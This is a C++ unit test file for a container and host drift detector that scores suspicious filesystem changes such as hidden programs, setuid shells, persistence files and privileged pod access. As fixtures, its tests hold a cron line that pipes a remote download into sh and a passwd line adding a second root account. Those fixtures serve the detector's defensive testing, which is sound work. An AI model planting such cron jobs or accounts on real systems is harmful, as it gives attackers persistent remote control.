// SPDX-License-Identifier: Apache-2.0
#include "detect/drift/checks.h"

#include <gmock/gmock.h>

namespace ekshume::detect::drift {
namespace {

using fs::overlay::Change;
using fs::overlay::ContentKind;
using fs::overlay::DiffEntry;
using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

// "drift.cron high", or "" when nothing is said.
std::string Line(const std::optional<Verdict>& verdict) {
  return verdict ? std::string(verdict->rule->id) + " " + std::string(verdict->level) : "";
}

DiffEntry Entry(std::string path, Change change, uint16_t mode, ContentKind kind) {
  DiffEntry entry;
  entry.path = std::move(path);
  entry.change = change;
  entry.stat.type = fs::NodeType::kRegular;
  entry.stat.permissions = mode;
  entry.stat.size_bytes = 10;
  entry.kind = kind;
  entry.executable = (mode & 0111U) != 0;
  entry.setuid = (mode & 04000U) != 0;
  entry.setgid = (mode & 02000U) != 0;
  if (change != Change::kAdded) entry.previous = entry.stat;
  if (change == Change::kModified) entry.differs = {"content", "time"};
  if (change == Change::kMetadata) entry.differs = {"mode"};
  return entry;
}
DiffEntry Added(std::string path, uint16_t mode = 0755, ContentKind kind = ContentKind::kElf) {
  return Entry(std::move(path), Change::kAdded, mode, kind);
}

std::optional<Verdict> Check(const DiffEntry& entry, std::string_view start = {},
                             std::string package = {}, bool installed_here = false) {
  ContainerFile file;
  file.entry = &entry;
  file.start = start;
  file.package = std::move(package);
  file.installed_here = installed_here;
  return CheckContainerFile(file);
}

TEST(ContainerFileTest, ProgramsThatAreInNoLayer) {
  EXPECT_EQ(Line(Check(Added("tmp/xmrig"))), "drift.temporary_program high");
  EXPECT_EQ(Line(Check(Added("tmp/go-build1/b001/x.test"))), "drift.temporary_program low");
  EXPECT_EQ(Line(Check(Added("tmp/go-build1/x.test"))), "drift.temporary_program high");
  EXPECT_EQ(Line(Check(Added("tmp/jna-3506402/jna42.tmp", 0600))), "drift.program_added low");
  EXPECT_EQ(Line(Check(Added("opt/.x/run"))), "drift.hidden_program high");
  EXPECT_EQ(Line(Check(Added("tmp/.x/kworkerd"))), "drift.name_masquerade high");
  EXPECT_EQ(Line(Check(Added("var/www/a.jpg", 0644))), "drift.program_disguised high");
  EXPECT_EQ(Line(Check(Added("usr/local/bin/tool"))), "drift.program_added medium");
  EXPECT_EQ(Line(Check(Added("srv/render.sh", 0755, ContentKind::kScript))),
            "drift.program_added low");
  EXPECT_EQ(Line(Check(Added("usr/local/bin/pip-made", 0755, ContentKind::kScript))),
            "drift.program_added low");
  EXPECT_EQ(Line(Check(Added("usr/sbin/x", 0755, ContentKind::kScript))),
            "drift.program_added medium");
  EXPECT_EQ(Line(Check(Added("tmp/x.sh", 0755, ContentKind::kScript))),
            "drift.temporary_program medium");
}

TEST(ContainerFileTest, SaysEverythingThatStandsOut) {
  const auto verdict = Check(Added("tmp/.x/kworkerd"));
  ASSERT_TRUE(verdict);
  EXPECT_THAT(verdict->reasons,
              ElementsAre("it is hidden by a dot in its path", "its name imitates a kernel thread",
                          "it lies in a folder for temporary files"));
}

TEST(ContainerFileTest, WhatContainersWriteEveryDayIsNothing) {
  for (const char* path :
       {"run/nginx.pid", "var/log/app.log", "dump.rdb", "var/cache/apt/pkgcache.bin",
        "app/__pycache__/main.cpython-311.pyc", "etc/resolv.conf", "var/lib/dpkg/status"}) {
    EXPECT_EQ(Line(Check(Added(path, 0644, ContentKind::kData))), "") << path;
  }
  DiffEntry hosts = Added("etc/hosts", 0644, ContentKind::kText);
  EXPECT_EQ(Line(Check(hosts)), "");
  // Java unpacks its libraries; caches hold programs.
  EXPECT_EQ(Line(Check(Added("tmp/libnetty123.so", 0600))), "drift.program_added low");
  EXPECT_EQ(Line(Check(Added("root/.cache/go/x"))), "drift.program_added low");
  ContainerFile mount;
  const DiffEntry entry = Added("tmp/.x/kworkerd");
  mount.entry = &entry;
  mount.is_mount_point = true;
  EXPECT_EQ(Line(CheckContainerFile(mount)), "");
}

TEST(ContainerFileTest, SetUid) {
  const auto hidden = Check(Added("usr/local/bin/.dbus", 04755));
  EXPECT_EQ(Line(hidden), "drift.setuid_added high");
  DiffEntry bash = Entry("usr/bin/bash", Change::kMetadata, 04755, ContentKind::kElf);
  bash.previous->permissions = 0755;
  const auto changed = Check(bash);
  EXPECT_EQ(Line(changed), "drift.setuid_added high");
  EXPECT_THAT(changed->reasons, Contains("it is a shell"));
  EXPECT_THAT(changed->reasons, Contains(HasSubstr("from 755 to 4755")));
  bash.previous->permissions = 04755;  // it was so before
  EXPECT_EQ(Line(Check(bash)), "");
  EXPECT_EQ(Line(Check(Added("usr/bin/sudo", 04755), {}, "sudo", true)), "drift.setuid_added low");
  EXPECT_EQ(Line(Check(Added("usr/bin/wall", 02755))), "drift.setuid_added medium");
  EXPECT_EQ(Line(Check(Added("srv/data", 04644, ContentKind::kData))), "");
  ContainerFile capable;
  const DiffEntry python = Entry("usr/bin/python3", Change::kMetadata, 0755, ContentKind::kElf);
  capable.entry = &python;
  capable.capability_gained = true;
  EXPECT_EQ(Line(CheckContainerFile(capable)), "drift.file_capability_added high");
}

TEST(ContainerFileTest, WhatTheStartRuns) {
  const DiffEntry script = Entry("srv/run.sh", Change::kModified, 0755, ContentKind::kScript);
  EXPECT_EQ(Line(Check(script, "the entry point")), "drift.start_changed high");
  EXPECT_EQ(Line(Check(script, "called by a start script")), "drift.start_changed high");
  EXPECT_EQ(Line(Check(script)), "drift.program_changed low");
  EXPECT_EQ(Line(Check(Added("run/generated.sh", 0755, ContentKind::kScript),
                       "called by a start script")),
            "drift.start_changed low");
  const DiffEntry mode = Entry("srv/run.sh", Change::kMetadata, 0755, ContentKind::kScript);
  EXPECT_EQ(Line(Check(mode, "the entry point")), "");
}

TEST(ContainerFileTest, Packages) {
  const DiffEntry changed = Entry("usr/bin/sshd", Change::kModified, 0755, ContentKind::kElf);
  EXPECT_EQ(Line(Check(changed, {}, "openssh-server")), "drift.program_changed high");
  EXPECT_EQ(Line(Check(changed, {}, "openssh-server", true)), "");
  const DiffEntry text = Entry("usr/share/x/a.txt", Change::kModified, 0644, ContentKind::kText);
  EXPECT_EQ(Line(Check(text, {}, "x")), "drift.package_file_changed low");
  EXPECT_EQ(Line(Check(text)), "");
  const DiffEntry config =
      Entry("etc/nginx/nginx.conf", Change::kModified, 0644, ContentKind::kText);
  EXPECT_EQ(Line(Check(config, {}, "nginx")), "");
  const DiffEntry curl = Entry("usr/bin/curl", Change::kDeleted, 0755, ContentKind::kElf);
  EXPECT_EQ(Line(Check(curl, {}, "curl")), "drift.tool_removed medium");
  EXPECT_EQ(Line(Check(curl, {}, "curl", true)), "");
  const DiffEntry other = Entry("usr/bin/envsubst", Change::kDeleted, 0755, ContentKind::kElf);
  EXPECT_EQ(Line(Check(other, {}, "gettext")), "drift.package_file_deleted medium");
  EXPECT_EQ(Line(Check(Added("usr/bin/nmap"), {}, "nmap", true)), "");
}

TEST(ContainerFileTest, Directories) {
  DiffEntry gone = Entry("usr/share/nginx", Change::kDeleted, 0755, ContentKind::kNone);
  gone.stat.type = gone.previous->type = fs::NodeType::kDirectory;
  ContainerFile file;
  file.entry = &gone;
  file.lost = 2;
  EXPECT_EQ(Line(CheckContainerFile(file)), "drift.directory_deleted medium");
  DiffEntry made_anew = gone;
  made_anew.change = Change::kModified;
  made_anew.replaced = true;
  file.entry = &made_anew;
  EXPECT_EQ(Line(CheckContainerFile(file)), "drift.directory_replaced medium");
  file.lost = 0;  // nothing of the image is gone
  EXPECT_EQ(Line(CheckContainerFile(file)), "drift.directory_replaced low");
  DiffEntry link = made_anew;
  link.replaced = false;
  link.stat.type = fs::NodeType::kSymlink;
  link.target = "pub2";
  file.entry = &link;
  const auto verdict = CheckContainerFile(file);
  EXPECT_EQ(Line(verdict), "drift.directory_to_symlink medium");
  EXPECT_THAT(verdict->reasons, Contains("it leads to pub2 now"));
  DiffEntry cache = gone;
  cache.path = "var/cache/apt";
  file.entry = &cache;
  file.lost = 9;
  EXPECT_EQ(Line(CheckContainerFile(file)), "");
}

TEST(ContainerFileTest, Persistence) {
  const auto text = [](std::string path) {
    return Line(Check(Added(std::move(path), 0644, ContentKind::kText)));
  };
  EXPECT_EQ(text("root/.ssh/authorized_keys"), "drift.ssh_key high");
  EXPECT_EQ(text("root/.ssh/known_hosts"), "");
  EXPECT_EQ(text("etc/cron.d/x"), "drift.cron high");
  EXPECT_EQ(text("etc/ld.so.preload"), "drift.library_preload high");
  EXPECT_EQ(text("root/.bash_history"), "drift.shell_history low");
  EXPECT_EQ(text("tmp/loot.tgz"), "drift.archive_staged low");
  EXPECT_EQ(text("tmp/.x/config.json"), "drift.hidden_file low");

  EXPECT_EQ(text("etc/environment"), "drift.shell_profile low");
  ContainerFile of_cron;
  const DiffEntry table = Added("var/spool/cron/crontabs/root", 0600, ContentKind::kText);
  of_cron.entry = &table;
  of_cron.runs_cron = true;
  EXPECT_EQ(Line(CheckContainerFile(of_cron)), "drift.cron low");

  const DiffEntry passwd = Entry("etc/passwd", Change::kModified, 0644, ContentKind::kText);
  ContainerFile file;
  file.entry = &passwd;
  file.added_text = "default:x:1000660000:0::/:/bin/sh\n";
  EXPECT_EQ(Line(CheckContainerFile(file)), "drift.account low");
  file.added_text = "toor:x:0:0::/root:/bin/bash\n";
  EXPECT_EQ(Line(CheckContainerFile(file)), "drift.account high");
}

HostFile Host(std::string path, uint16_t mode, ContentKind kind) {
  HostFile file;
  file.path = std::move(path);
  file.stat.type = fs::NodeType::kRegular;
  file.stat.permissions = mode;
  file.stat.size_bytes = 10;
  file.kind = kind;
  file.is_new = true;
  return file;
}

TEST(HostFileTest, WhoCouldWriteThereDecides) {
  HostFile unit = Host("etc/systemd/system/x.service", 0644, ContentKind::kText);
  EXPECT_EQ(Line(CheckHostFile(unit)), "drift.systemd_unit low");
  unit.writers = {"the pod a/b (container c)"};
  const auto verdict = CheckHostFile(unit);
  EXPECT_EQ(Line(verdict), "drift.systemd_unit high");
  EXPECT_THAT(verdict->reasons, Contains(HasSubstr("the pod a/b (container c) had this place")));
  EXPECT_THAT(verdict->tags, Contains(HasSubstr("attack.t1611")));
  unit.installed_then = true;
  EXPECT_EQ(Line(CheckHostFile(unit)), "");
}

TEST(HostFileTest, Places) {
  HostFile cron = Host("etc/cron.d/0hourly", 0644, ContentKind::kText);
  EXPECT_EQ(Line(CheckHostFile(cron)), "drift.cron medium");
  cron.text = "* * * * * root curl http://198.51.100.7/x | sh\n";
  EXPECT_THAT(CheckHostFile(cron)->reasons, Contains("it holds \"curl \""));
  EXPECT_EQ(Line(CheckHostFile(Host("root/.ssh/authorized_keys", 0600, ContentKind::kText))),
            "drift.ssh_key medium");
  EXPECT_EQ(
      Line(CheckHostFile(Host("etc/kubernetes/manifests/etcd.yaml", 0600, ContentKind::kText))),
      "drift.static_pod low");
  EXPECT_EQ(Line(CheckHostFile(Host("etc/kubernetes/manifests/x.yaml", 0600, ContentKind::kText))),
            "drift.static_pod high");
  EXPECT_EQ(Line(CheckHostFile(Host("etc/sudoers.d/ssm-agent-users", 0440, ContentKind::kText))),
            "drift.sudo_rule low");
  HostFile passwd = Host("etc/passwd", 0644, ContentKind::kText);
  passwd.text = "root:x:0:0::/root:/bin/bash\nssm-user:x:1001:1001::/:/bin/sh\n";
  EXPECT_EQ(Line(CheckHostFile(passwd)), "drift.account low");
  passwd.text += "toor:x:0:0::/:/bin/sh\n";
  EXPECT_EQ(Line(CheckHostFile(passwd)), "drift.account high");
  EXPECT_EQ(Line(CheckHostFile(Host("etc/hosts", 0644, ContentKind::kText))), "");
}

TEST(HostFileTest, Programs) {
  EXPECT_EQ(Line(CheckHostFile(Host("tmp/x", 0755, ContentKind::kElf))),
            "drift.temporary_program high");
  EXPECT_EQ(Line(CheckHostFile(Host("tmp/go-build1/b001/x.test", 0755, ContentKind::kElf))),
            "drift.temporary_program low");
  EXPECT_EQ(Line(CheckHostFile(Host("usr/local/bin/x", 0755, ContentKind::kElf))),
            "drift.program_added medium");
  EXPECT_EQ(Line(CheckHostFile(Host("opt/cni/bin/aws-cni", 0755, ContentKind::kElf))), "");
  EXPECT_EQ(Line(CheckHostFile(Host("usr/bin/su", 04755, ContentKind::kElf))),
            "drift.setuid_added high");
  HostFile by_agent = Host("usr/local/bin/agent", 0755, ContentKind::kElf);
  by_agent.system_writer = true;
  EXPECT_EQ(Line(CheckHostFile(by_agent)), "drift.program_added low");
  HostFile by_container = Host("data/build/x", 0755, ContentKind::kElf);
  by_container.writers = {"the pod a/b (container c)"};
  EXPECT_EQ(Line(CheckHostFile(by_container)), "drift.program_added medium");
  by_container.path = "usr/bin/x";
  EXPECT_EQ(Line(CheckHostFile(by_container)), "drift.program_added high");
}

TEST(DeletedFileTest, WhereItWasDecides) {
  DeletedFile file;
  file.stat.type = fs::NodeType::kRegular;
  file.stat.permissions = 0755;
  file.stat.size_bytes = 10;
  file.kind = ContentKind::kElf;
  EXPECT_EQ(Line(CheckDeletedFile(file)), "drift.deleted_running medium");
  file.folder = "tmp";
  file.in_container = true;
  EXPECT_EQ(Line(CheckDeletedFile(file)), "drift.deleted_running high");
  file.folder = "usr/lib/systemd";  // a package was upgraded
  file.in_container = false;
  EXPECT_EQ(Line(CheckDeletedFile(file)), "drift.deleted_running low");
  file.kind = ContentKind::kData;
  EXPECT_EQ(Line(CheckDeletedFile(file)), "");
}

TEST(VolumeFileTest, ProgramsAndArchives) {
  VolumeFile file;
  file.path = "stage.tgz";
  file.stat.type = fs::NodeType::kRegular;
  file.stat.permissions = 0644;
  file.stat.size_bytes = 5;
  file.kind = ContentKind::kText;
  EXPECT_EQ(Line(CheckVolumeFile(file)), "drift.archive_staged low");
  file.path = "x";
  EXPECT_EQ(Line(CheckVolumeFile(file)), "");
  file.stat.permissions = 0755;
  file.kind = ContentKind::kElf;
  EXPECT_EQ(Line(CheckVolumeFile(file)), "drift.program_added medium");
  file.made_by_start = true;
  EXPECT_EQ(Line(CheckVolumeFile(file)), "drift.program_added low");
}

TEST(HostReachTest, AgentsOfNodesAreOnlyListed) {
  HostReach reach;
  EXPECT_EQ(Line(CheckHostReach(reach)), "");
  reach.access = {"privileged", "host mount /", "host network"};
  EXPECT_EQ(Line(CheckHostReach(reach)), "drift.host_access high");
  reach.is_known = true;
  EXPECT_EQ(Line(CheckHostReach(reach)), "drift.host_access informational");
  reach.is_known = false;
  reach.of_node_set = true;
  EXPECT_EQ(Line(CheckHostReach(reach)), "drift.host_access low");
  reach.of_node_set = false;
  reach.access = {"host mount / (read-only)", "host network"};
  EXPECT_EQ(Line(CheckHostReach(reach)), "drift.host_access low");
  reach.access = {"capability SYS_ADMIN"};
  EXPECT_EQ(Line(CheckHostReach(reach)), "drift.host_access medium");
}

TEST(HostReachTest, WhatIsAKnownAgent) {
  EXPECT_TRUE(IsKnownAgent("602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.18",
                           "kube-system"));
  EXPECT_TRUE(IsKnownAgent("registry.k8s.io/kube-proxy:v1.29.0", "kube-system"));
  EXPECT_TRUE(IsKnownAgent("quay.io/prometheus/node-exporter:v1.8", "monitoring"));
  // A mirror, in a namespace of the system only.
  const char* mirror = "registry.example/mirror/kube-proxy@sha256:00";
  EXPECT_TRUE(IsKnownAgent(mirror, "kube-system"));
  EXPECT_FALSE(IsKnownAgent(mirror, "shop"));
  EXPECT_FALSE(IsKnownAgent("123456789012.dkr.ecr.us-east-1.amazonaws.com/acme/webshop:1.4.2",
                            "kube-system"));
  EXPECT_FALSE(IsKnownAgent("", "kube-system"));
}

TEST(SubjectTest, FoldsWhatIsManyTimesTheSame) {
  Verdict verdict;
  verdict.rule = &RuleOf("drift.program_added");
  verdict.level = "low";
  Subject subject;
  subject.container_id = "c";
  std::vector<Finding> findings;
  for (const char* path : {"/opt/x/b", "/opt/x/a", "/opt/x/c", "/opt/y/a"}) {
    findings.push_back(MakeFinding(verdict, subject, path, "What."));
  }
  const std::vector<Finding> folded = Fold(findings, 2);
  ASSERT_EQ(folded.size(), 2U);
  const bool first_is_folded = folded[0].count == 3;
  const Finding& many = folded[first_is_folded ? 0 : 1];
  EXPECT_EQ(many.count, 3U);
  EXPECT_EQ(many.path, "/opt/x");
  EXPECT_THAT(many.explanation, HasSubstr("3 files in /opt/x: a, b, c"));
  EXPECT_EQ(folded[first_is_folded ? 1 : 0].path, "/opt/y/a");
  EXPECT_EQ(Fold(findings, 3).size(), 4U);
}

TEST(SubjectTest, FindingsNameRuleAndReasons) {
  Verdict verdict;
  verdict.rule = &RuleOf("drift.hidden_program");
  verdict.reasons = {"one", "two"};
  verdict.tags = {"attack.defense-evasion attack.t1036.005"};
  const Finding finding = MakeFinding(verdict, {}, "/x", "A file.");
  EXPECT_EQ(finding.detector, "drift");
  EXPECT_EQ(finding.level, "high");
  EXPECT_EQ(finding.explanation,
            "A file. What stands out: one; two. Its name, or the name of a folder above it, begins "
            "with a dot.");
  EXPECT_THAT(finding.tags,
              ElementsAre("attack.defense-evasion", "attack.t1564.001", "attack.t1036.005"));
  EXPECT_NE(finding.id, MakeFinding(verdict, {}, "/y", "A file.").id);
  EXPECT_EQ(finding.id, MakeFinding(verdict, {}, "/x", "Other words.").id);
}

}  // namespace
}  // namespace ekshume::detect::drift
